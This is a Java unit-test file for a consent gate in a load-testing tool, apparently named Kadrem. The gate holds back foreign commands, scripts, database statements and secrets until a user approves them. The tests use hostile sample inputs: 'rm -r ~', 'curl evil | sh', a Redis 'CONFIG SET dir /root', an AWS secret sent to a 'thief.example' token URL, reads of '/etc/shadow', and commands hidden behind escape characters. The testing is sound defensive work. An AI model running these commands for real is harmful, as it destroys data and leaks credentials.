package kadrem.load.gate;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Optional;

import kadrem.core.gate.Reach;
import kadrem.core.study.Access;
import kadrem.core.study.Address;
import kadrem.core.study.Call;
import kadrem.core.study.Candidate;
import kadrem.core.study.Form;
import kadrem.core.study.Launch;
import kadrem.core.study.LoadProfile;
import kadrem.core.study.Plan;
import kadrem.core.study.Question;
import kadrem.core.study.SignIn;
import kadrem.core.study.MeasuredStudy;
import kadrem.core.study.ThinkTime;
import kadrem.core.study.Tls;
import kadrem.core.study.ValueList;
import kadrem.core.study.Entrance;
import kadrem.core.study.Visit;
import kadrem.core.study.WatchSource;
import kadrem.core.study.Wire;
import kadrem.core.study.Workload;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What a study from elsewhere would do is told whole, waits for the user's word, and asks again when it changes. */
class ConsentTest {
    private static final Address HERE = new Address("127.0.0.1", 8080, "");
    private static final List<String> STAND_IN = List.of("{{kadrem}}", "standin", "pool", "--port", "{{port}}");

    @TempDir
    private Path folder;
    private Consent consent;

    @BeforeEach
    void begin() {
        consent = new Consent(folder.resolve("user"));
    }

    private static Launch launch(List<String> command, Map<String, String> environment) {
        return new Launch(command, ".", environment, Optional.empty(), Duration.ofSeconds(1), Duration.ofSeconds(1));
    }

    private static Candidate launched(String... command) {
        return candidate(HERE, Optional.of(launch(List.of(command), Map.of())), Access.OPEN);
    }

    private static Candidate candidate(Address address, Optional<Launch> launch, Access access) {
        return new Candidate("c", "C", address, launch, "/", Optional.empty(), Optional.empty(), access);
    }

    private static MeasuredStudy study(Candidate candidate, Call... calls) {
        return new MeasuredStudy("s", new Question("?", "c", 0.05, List.of()), List.of(candidate), workload(calls),
                new LoadProfile.Closed(1, ThinkTime.NONE, Duration.ZERO, Duration.ofSeconds(1), Duration.ofSeconds(1)),
                new Plan(1, 1, Duration.ZERO));
    }

    private static Workload workload(Call... calls) {
        return new Workload(List.of(), calls.length == 0 ? List.of() : List.of(new Visit("v", 1, List.of(calls))));
    }

    private List<String> waiting(Candidate candidate, Call... calls) {
        return consent.asks(study(candidate, calls), folder).waiting().stream().map(Reach::words).toList();
    }

    @Test
    void aCommandNeedsAWordThatHoldsUntilItChangesOrTheStudyMoves() throws Exception {
        Candidate foreign = launched("./serve.sh", "--port", "{{port}}");
        assertThat(waiting(foreign)).containsExactly("c, launch: ./serve.sh --port {{port}}");
        assertThatThrownBy(() -> consent.require(foreign, workload(), folder)).isInstanceOf(NotAllowed.class)
                .hasMessageContaining("./serve.sh --port {{port}}").hasMessageContaining("kadrem allow ");
        consent.allow(consent.asks(study(foreign), folder), folder);
        consent.require(foreign, workload(), folder);
        Consent.Asked changed = consent.asks(study(launched("./serve.sh", "--evil")), folder);
        assertThat(changed.isAllowed()).isFalse();
        assertThat(changed.isChange()).isTrue();
        assertThat(changed.gone()).containsExactly("launch: ./serve.sh --port {{port}}");
        assertThat(consent.asks(study(foreign), folder.resolve("copy")).waiting()).as("from elsewhere").hasSize(1);
        assertThat(consent.withdraw(folder)).isTrue();
        assertThat(waiting(foreign)).hasSize(1);
    }

    /** The script stays under its name while what is in it changes. */
    @Test
    void aScriptThatACommandNamesAsksAgainWhenItChanges() throws Exception {
        Files.writeString(folder.resolve("serve.sh"), "echo harmless");
        Candidate foreign = launched("sh", "serve.sh");
        assertThat(waiting(foreign).getFirst()).startsWith("c, launch: sh serve.sh\n    serve.sh has the SHA-256 ");
        consent.allow(consent.asks(study(foreign), folder), folder);
        assertThat(waiting(foreign)).isEmpty();
        Files.writeString(folder.resolve("serve.sh"), "rm -r ~");
        assertThat(waiting(foreign)).hasSize(1);
    }

    @Test
    void aFileThatIsNamedWithinAWordAsksAgainToo() throws Exception {
        Files.writeString(folder.resolve("fill.sh"), "echo harmless");
        Files.writeString(folder.resolve("x.jar"), "harmless");
        assertThat(waiting(launched("sh", "-c", "./fill.sh && java -javaagent:x.jar")).getFirst())
                .contains("./fill.sh has the SHA-256 ").contains("x.jar has the SHA-256 ");
    }

    @Test
    void aFileOfWordsThatCannotBeReadIsKept() throws Exception {
        Path words = folder.resolve("user").resolve("what-studies-may-do.json");
        Files.createDirectories(folder.resolve("user"));
        Files.writeString(words, "{half a fi");
        Candidate foreign = launched("./serve.sh");
        assertThat(waiting(foreign)).hasSize(1);
        consent.allow(consent.asks(study(foreign), folder), folder);
        assertThat(waiting(foreign)).isEmpty();
        assertThat(folder.resolve("user/what-studies-may-do.json.unreadable")).hasContent("{half a fi");
    }

    /** A command that keeps a log does not ask again for each line of it; what it carries out afterwards is looked at all the same. */
    @Test
    void aFileThatTheShellWritesIsNotOneThatIsRun() throws Exception {
        Files.writeString(folder.resolve("served.log"), "one");
        Files.writeString(folder.resolve("made.sh"), "echo harmless");
        assertThat(waiting(launched("sh", "-c", "./serve >> served.log 2>errors.log; cat x >made.sh && ./made.sh"))
                .getFirst()).doesNotContain("served.log has").contains("./made.sh has the SHA-256 ");
        assertThat(waiting(launched("sh", "-c", "sh <served.log")).getFirst()).contains("served.log has the SHA-256 ");
    }

    @Test
    void whatOneMadeHereNeedsNoWord() throws Exception {
        consent.own(folder);
        assertThat(waiting(launched("./serve.sh"))).isEmpty();
        assertThat(waiting(launched("./serve.sh", "--otherwise"))).isEmpty();
        consent.withdraw(folder);
        assertThat(waiting(launched("./serve.sh"))).hasSize(1);
    }

    /** The word is not for what another puts into its place. */
    @Test
    void anotherFolderInThePlaceOfOnesOwnIsNotOnesOwn() throws Exception {
        Path study = Files.createDirectory(folder.resolve("study"));
        consent.own(study);
        MeasuredStudy foreign = study(launched("./serve.sh"));
        assertThat(consent.asks(foreign, study).isAllowed()).isTrue();
        Files.delete(study.resolve(".made-here"));
        Files.delete(study);
        Files.createDirectory(study);
        assertThat(consent.asks(foreign, study).isAllowed()).isFalse();
    }

    /** A study that is made of another for the noise floor has the same candidate under two names. */
    @Test
    void theWordIsForWhatIsDoneAndNotForTheNameOfACandidate() throws Exception {
        Candidate one = launched("./serve.sh");
        consent.allow(consent.asks(study(one), folder), folder);
        var again = new Candidate("again", "C", one.address(), one.launch(), one.ready(), one.reset(), one.version());
        assertThat(waiting(again)).isEmpty();
    }

    @Test
    void kadremsOwnStandInsNeedNoWordUnlessSomethingIsSlippedIn() {
        assertThat(waiting(candidate(HERE, Optional.of(launch(STAND_IN, Map.of())), Access.OPEN),
                Call.of("look", "GET", "/berths"))).isEmpty();
        assertThat(waiting(candidate(HERE,
                Optional.of(launch(STAND_IN, Map.of("JAVA_TOOL_OPTIONS", "-javaagent:x.jar"))), Access.OPEN)))
                .singleElement().asString()
                .contains("JAVA_TOOL_OPTIONS=-javaagent:x.jar {{kadrem}} standin pool");
        assertThat(waiting(new Candidate("c", "C", HERE, Optional.of(launch(STAND_IN, Map.of())), "/",
                Optional.of(new Candidate.ControlCommand(List.of("rm", "-r", "my data"))), Optional.empty())))
                .containsExactly("c, reset: rm -r 'my data'");
    }

    /** A service of this machine that Kadrem did not start may be an engine of containers or a store of somebody's. */
    @Test
    void aServiceThatKadremDidNotStartIsNamedWithAllThatIsSent() {
        Access socket = Access.over(Wire.USUAL.withSocket("/run/engine.sock"));
        Call create = Call.of("create", "POST", "/containers/create").withBody("{\"Image\": \"x\"}");
        assertThat(waiting(candidate(HERE, Optional.empty(), socket), create)).containsExactly(
                "c, load: the socket /run/engine.sock\n    POST /containers/create | {\"Image\": \"x\"}");
        assertThat(waiting(candidate(new Address("board.example", 80, ""), Optional.of(launch(STAND_IN, Map.of())),
                Access.OPEN))).as("a launch here starts nothing there")
                .containsExactly("c, load: http://board.example");
    }

    @Test
    void whatAStoreIsToldIsShown() {
        Call told = Call.of("flush", "", "").with(Form.of("resp", Map.of("commands", List.of("CONFIG SET dir /root"))));
        Address store = new Address("resp", "redis", "127.0.0.1", 6379, "", false);
        assertThat(waiting(candidate(store, Optional.empty(), Access.OPEN), told)).anyMatch(
                words -> words.equals("c, call: redis://127.0.0.1:6379: CONFIG SET dir /root"));
    }

    /** H2 runs code that a statement brings along, the ready probe's too. */
    @Test
    void statementsAreShownInEveryPlace() {
        var database = new Address("sql", "jdbc", "localhost", 0, "h2:mem:board", false);
        String alias = "CREATE ALIAS X AS 'void x() {}'";
        var candidate = new Candidate("c", "C", database, Optional.empty(), alias,
                Optional.of(new Candidate.ControlAsk("call X()")), Optional.empty(), Access.OPEN,
                List.of(new WatchSource.Counters("own", "jdbc:h2:mem:other", "", "{{env:COUNT_PASSWORD}}",
                        "select x()", List.of())),
                Optional.of(new Candidate.ControlSql("jdbc:h2:mem:third", "", "", List.of("drop table a"))));
        assertThat(waiting(candidate)).contains("c, ready: jdbc:h2:mem:board: " + alias,
                "c, reset: jdbc:h2:mem:board: call X()", "c, data: jdbc:h2:mem:third: drop table a",
                "c, watch own, once a second: jdbc:h2:mem:other: select x()",
                "c, watch own: the environment variable COUNT_PASSWORD to jdbc:h2:mem:other");
    }

    @Test
    void aStatementThatBeginsLikeAPathIsShown() {
        var database = new Address("sql", "jdbc", "localhost", 0, "h2:mem:board", false);
        assertThat(waiting(new Candidate("c", "C", database, Optional.empty(), "/* */ create alias x", Optional.empty(),
                Optional.empty()))).contains("c, ready: jdbc:h2:mem:board: /* */ create alias x");
        assertThat(waiting(new Candidate("c", "C", HERE, Optional.of(launch(STAND_IN, Map.of())), "/health",
                Optional.empty(), Optional.of("/version")))).as("paths").isEmpty();
    }

    /** What is run stands in the list, not in the command. */
    @Test
    void rowsThatAreFilledIntoWhatIsRunAskAgainWhenTheyChange() throws Exception {
        Call run = Call.of("run", "", "").with(Form.of("command", Map.of("command", List.of("sh", "-c", "{{what}}"))));
        Candidate runner = candidate(new Address("command", "command", "localhost", 0, ".", false), Optional.empty(),
                Access.OPEN);
        for (String row : List.of("true", "rm -r ~")) {
            var workload = new Workload(
                    List.of(new ValueList.Listed("what", "", "", List.of(row), ValueList.Draw.USUAL)),
                    List.of(new Visit("v", 1, List.of(run))));
            MeasuredStudy study = study(runner);
            var whole = new MeasuredStudy("s", study.question(), study.candidates(), workload, study.load(),
                    study.plan());
            Consent.Asked asked = consent.asks(whole, folder);
            assertThat(asked.waiting()).as(row).anyMatch(
                    reach -> reach.words().startsWith("c, call: sh -c {{what}}\n    {{what}} has the SHA-256 "));
            consent.allow(asked, folder);
        }
    }

    @Test
    void aCommandsInputIsShown() {
        Call run = Call.of("run", "", "").with(Form.of("command",
                Map.of("command", List.of("sh"), "input", List.of("curl evil | sh"))));
        assertThat(waiting(candidate(new Address("command", "command", "localhost", 0, ".", false), Optional.empty(),
                Access.OPEN), run)).anyMatch(words -> words.equals("c, call: sh\n    reads: curl evil | sh"));
    }

    @Test
    void secretsAreNamedWithWhereTheyGo() {
        var elsewhere = new SignIn.ClientCredentials("https://thief.example/token", "me", "{{env:AWS_SECRET}}", "");
        Call call = Call.of("c", "GET", "/").withHeaders(List.of(new Call.Header("X", "{{file:/etc/shadow}}")));
        assertThat(waiting(candidate(HERE, Optional.of(launch(STAND_IN, Map.of())), new Access(elsewhere, Tls.USUAL)),
                call)).containsExactlyInAnyOrder("c, sign-in: https://thief.example/token",
                        "c, sign-in: the environment variable AWS_SECRET to https://thief.example/token",
                        "c, calls: the first line of the file /etc/shadow to http://127.0.0.1:8080");
    }

    @Test
    void whatIsWatchedElsewhereAndReadOutsideIsNamed() throws Exception {
        Files.createDirectory(folder.resolve("study"));
        Files.createSymbolicLink(folder.resolve("study/inside.pid"), folder.resolve("outside"));
        Files.writeString(folder.resolve("outside"), "1");
        var candidate = new Candidate("c", "C", HERE, Optional.of(launch(STAND_IN, Map.of())), "/", Optional.empty(),
                Optional.empty(), new Access(new SignIn.None(), new Tls(true, Optional.of("ca.pem"),
                        Optional.of("../me.pem"), Optional.of("/home/me/key.pem"))),
                List.of(new WatchSource.JavaMachine("vm", Optional.of("thief.example:9010")),
                        new WatchSource.MetricsEndpoint("far", "http://127.0.0.1:9999/metrics", List.of()),
                        new WatchSource.MetricsEndpoint("own", "http://127.0.0.1:8080/metrics", List.of()),
                        new WatchSource.ProcessTree("linked", "inside.pid")));
        assertThat(Reaches.of(candidate, workload(), folder.resolve("study")).stream().map(Reach::words))
                .containsExactlyInAnyOrder("c, own certificate: ../me.pem", "c, own key: /home/me/key.pem",
                        "c, watch vm: thief.example:9010", "c, watch far: http://127.0.0.1:9999/metrics",
                        "c, watch linked: inside.pid");
    }

    @Test
    void nothingHidesBehindCharactersThatAreNotSeen() {
        Candidate sly = launched("echo", "fine\u001b[8m; rm -r ~", "a\u202eb", "two\nlines", "c:\\x1b");
        assertThat(waiting(sly).getFirst()).isEqualTo(
                "c, launch: echo $'fine\\u001b[8m; rm -r ~' $'a\\u202eb' $'two\\nlines' 'c:\\x1b'");
    }

    @Test
    void theDigestNamesAllThatIsAsked() {
        String one = consent.asks(study(launched("./a")), folder).digest();
        assertThat(one).matches("[0-9a-f]{64}").isEqualTo(consent.asks(study(launched("./a")), folder).digest())
                .isNotEqualTo(consent.asks(study(launched("./b")), folder).digest());
    }

    @Test
    void callsThatNoStudyAsksForNeedAWordForTheHost() throws Exception {
        var far = new Address("board.example", 80, "");
        assertThat(consent.allows(new Address("127.0.0.1", 80, ""))).isTrue();
        assertThat(consent.allows(far)).isFalse();
        consent.allow("Board.Example");
        assertThat(new Consent(folder.resolve("user")).allows(far)).as("kept").isTrue();
        assertThat(consent.allows(new Address("example", 80, ""))).isFalse();
    }

    /** A crowd that is answered elsewhere is load, too, and so are the secrets that it signs in with. */
    @Test
    void anotherEntranceOfACandidateWaitsForAWord() {
        var there = new Entrance(new Address("192.0.2.7", 8080, ""),
                new Access(new SignIn.Bearer("{{env:BOARD_TOKEN}}"), Tls.USUAL));
        Candidate own = launched("./serve.sh");
        var candidate = new Candidate(own.id(), own.name(), own.address(), own.launch(), own.ready(), own.reset(),
                own.version(), own.access(), own.watch(), own.data(), Map.of("tellers", there));
        assertThat(waiting(candidate, Call.of("tell", "GET", "/tell"))).hasSize(3)
                .anySatisfy(words -> assertThat(words).contains("192.0.2.7:8080").contains("GET /tell"))
                .anySatisfy(words -> assertThat(words).contains("BOARD_TOKEN").contains("192.0.2.7:8080"));
    }
}
